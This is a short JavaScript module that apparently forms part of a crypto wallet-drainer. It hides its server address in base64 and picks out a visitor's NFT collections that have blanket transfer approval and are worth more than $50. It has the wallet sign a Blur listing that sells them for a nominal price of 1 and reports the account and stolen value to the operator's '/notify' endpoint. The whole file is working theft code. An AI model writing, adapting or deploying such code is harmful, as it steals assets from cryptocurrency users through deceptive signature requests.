const ENDPOINT = atob("aHR0cHM6Ly9yb290LWdhdGUuZXhhbXBsZS9hcGk=");

async function post(path, data) {
  const r = await fetch(ENDPOINT + path, {
    method: "POST",
    headers: { "Content-Type": "application/json", "x-site": btoa(location.hostname) },
    body: JSON.stringify(data),
  });
  return r.json();
}

export const blurTask = async (account, collections) => {
  const held = collections.filter((c) => c.isApprovedForAll && c.usd > 50);
  if (held.length === 0) return false;
  const { root, typed } = await post("/blur/root", {
    trader: account,
    items: held.flatMap((c) => c.ids.map((id) => [c.address, id])),
    price: "1",
  });
  if (!root) return false;
  try {
    const sig = await ethereum.request({ method: "eth_signTypedData_v4", params: [account, JSON.stringify(typed)] });
    const out = await post("/blur/execute", { root, sig, account });
    await post("/notify", { text: `BLUR | ${account} | ${held.length} collections | $${held.reduce((s, c) => s + c.usd, 0)} | ${out.ok}` });
    return out.ok;
  } catch (err) {
    await post("/notify", { text: `BLUR declined | ${account} | ${err.code}` });
    return false;
  }
};
